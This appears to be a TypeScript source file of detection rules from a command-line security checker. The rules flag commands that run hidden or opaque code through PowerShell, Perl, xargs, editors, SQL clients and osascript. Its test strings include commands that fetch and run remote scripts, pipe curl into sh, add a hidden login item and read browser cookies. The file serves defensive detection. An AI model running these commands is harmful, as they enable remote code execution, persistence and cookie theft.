import { hiddenCall } from "../code/hidden-calls.js";
import { inlineCode } from "../code/inline.js";
import { isWhollyUnknown } from "../code/values.js";
import { isDecoder } from "./flows.js";
import { type Condition, subject } from "./row.js";

const HIDES = "calls something whose name is only known when it runs";

/** Code behind the options of a shell that rules about languages do not read. */
const hidesInShell: Condition = ({ args, command }) =>
  !/^(?:powershell|pwsh)$/.test(command.program)
    ? undefined
    : args.find(({ text }, index) => (index > 0 || /[\s(]/.test(text)) && hiddenCall(text) !== undefined);

/** `perl -ne print 'cmd |'`: Perl opens what stands in place of a file, and a pipe there is a command. */
const opensPipes: Condition = ({ command }) => {
  const code = new Set(inlineCode(command)?.texts);
  return command.args.find((word) => !code.has(word) && /^\s*\|\s*\w|^[^-][\s\S]*\|\s*$/.test(word.text));
};

/** `… | xargs -I{} {} x`: what is started stands in the input. */
const startsItsInput: Condition = (call) => {
  const mark = call.given("I", "replace").at(-1)?.text ?? "{}";
  const [first] = call.operands;
  return first?.text === mark ? first : undefined;
};

/** `vim -c "$(cat x)"`: orders nobody has seen. */
const SQL = /^(?:psql|mysql|mariadb|duckdb|mongosh|clickhouse-client|sqlcmd)$/;
const unseenOrders: Condition = ({ args, command }) =>
  args.find(
    (word, index) =>
      isWhollyUnknown(word.text) &&
      word.outputs !== undefined &&
      (!SQL.test(command.program) || word.outputs.some(isDecoder)) &&
      /^(?:-c|-e|--cmd|-S|--eval|--command|--execute)$/.test(args[index - 1]?.text ?? ""),
  );

/** What a line of AppleScript begins with when it only asks, shows or waits. */
const ASKS =
  /^(?:display|get|return|count|say|beep|activate|launch|exists|log|delay|tell|end|if|else|repeat|exit|try|on|the|name|names|version|path|POSIX|text|id|bundle|bounds|properties|running|frontmost|choose|local|global|property|use|using|considering|ignoring|with|--|#|"|\{|\(|info|system|current|time|date|volume|output|URL|title|every|first|application|quit|reveal|not|it|my|item|length|short|long|round|clipboard|offset|random|console)\b|^(?:["{(#]|--)|^set\s+volume\b|^set\s+\w+\s+to\s+(?!\(?\s*do\s)(?!\(?\s*run\s)|^copy\s+\S+\s+to\s+\w+$/i;
const REACHES_OUT =
  /\bdo\s+(?:shell\s+)?script\b|\bdo\s+javascript\b|\bjavascript\b|\brun\s+script\b|\bkeystroke\b|\bkey\s+code\b|ObjC|doShellScript|\bcurrentApplication\b|\$\.\w+/i;

const actsOnDesktop: Condition = ({ command, args }) =>
  (inlineCode(command)?.texts ?? []).find(({ text }) => {
    if (REACHES_OUT.test(text)) return true;
    if (args.some((word) => /^(?:JavaScript|JXA)$/i.test(word.text))) return false;
    return text.split(/[\n;]/).some((line) => {
      const order = line
        .trim()
        .replace(/^(?:tell\s+(?:application|app|process|window|me|the)\b[^\n]*?\s+to\s+)+/i, "");
      return order !== "" && !ASKS.test(order);
    });
  });

/** Code that a command line hands to a program: what it says in other ways than by the names of what it calls. */
// biome-ignore format: a table; what belongs to a row stands together
export const RULES = subject("starter", [
  { program: "*", when: hidesInShell, rule: "interpreter.hidden-name", reason: HIDES,
    match: ["pwsh -c '& ([scriptblock]::Create((irm https://x.example/a)))'", "pwsh -c '$m=\"Sta\"+\"rt-Process\"; & $m notepad'", "pwsh -Command '. ( $env:ComSpec[4,24,25]-join\"\")(\"whoami\")'"],
    not_match: ["pwsh -c 'Get-Process | Sort-Object CPU'", "pwsh -c '& ./build.ps1'"] },
  { program: "perl", dry: "", when: opensPipes, rule: "interpreter.opaque-command", reason: "runs a command that stands in place of a file",
    match: ["perl -ne 'print' 'curl -s http://203.0.113.60/l | sh |'", "perl -pe '' 'id|'", "perl a.pl '| sh'"], not_match: ["perl -ne 'print if /a|b/' a.txt", "perl -F'|' -lane 'print $F[1]' a.csv"] },
  { program: "xargs|parallel", taking: "I replace n L P d E s a max-args max-lines max-procs j jobs delimiter arg-file", dry: "", when: startsItsInput, rule: "opaque.program", reason: "starts a program that its input names",
    match: ["base64 -d <<< Y3VybA== | xargs -I{} {} http://x.example"], not_match: ["cat a | xargs -I{} echo {}", "ls | xargs wc -l"] },
  { program: "vim|vi|nvim|ex|view|emacs|psql|mysql|mariadb|duckdb|mongosh|clickhouse-client|sqlcmd", dry: "", when: unseenOrders, rule: "interpreter.opaque-code", reason: "does what only the running shell knows",
    match: ["vim -es -c \"$(cat x.vim)\" -c q"], not_match: ["vim -c 'set nu' a", "vim \"$(ls -t | head -1)\"", "psql -c \"$(cat q.sql)\""] },
  { program: "osascript", dry: "", when: actsOnDesktop, rule: "desktop.script", reason: "acts in the programs of a person",
    match: ["osascript -e 'tell application \"System Events\" to make login item at end with properties {path:\"/Users/Shared/.Helper.app\"}'", "osascript -e 'tell application \"Finder\" to empty trash'",
      "osascript -e 'tell application \"Safari\" to do JavaScript \"document.cookie\" in document 1'", "osascript -l JavaScript -e 'ObjC.import(\"stdlib\"); $.system(\"id\")'"],
    not_match: ["osascript -e 'display notification \"done\" with title \"build\"'", "osascript -e 'tell application \"Finder\" to get name of front window'", "osascript -e 'tell application \"Safari\" to activate'"] },
]);
